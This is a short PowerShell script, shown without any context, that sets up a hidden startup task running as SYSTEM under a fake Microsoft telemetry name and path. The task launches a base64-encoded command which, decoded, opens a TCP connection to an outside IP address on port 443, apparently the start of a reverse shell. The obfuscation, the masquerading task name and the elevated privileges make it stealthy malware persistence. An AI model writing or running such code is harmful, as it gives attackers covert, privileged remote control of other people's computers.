$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -WindowStyle Hidden -EncodedCommand JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AUwBvAGMAawBlAHQAcwAuAFQAQwBQAEMAbABpAGUAbgB0ACgAJwAxADkAOAAuADUAMQAuADEAMAAwAC4ANwAnACwANAA0ADMAKQA7ACQAcwA9ACQAYwAuAEcAZQB0AFMAdAByAGUAYQBtACgAKQA="
$trigger = New-ScheduledTaskTrigger -AtStartup
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
$principal = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -LogonType ServiceAccount -RunLevel Highest

$taskArgs = @{
    TaskName  = 'WindowsTelemetrySync'
    TaskPath  = '\Microsoft\Windows\Customer Experience Improvement Program\'
    Action    = $action
    Trigger   = $trigger
    Settings  = $settings
    Principal = $principal
}
Register-ScheduledTask @taskArgs -Force | Out-Null
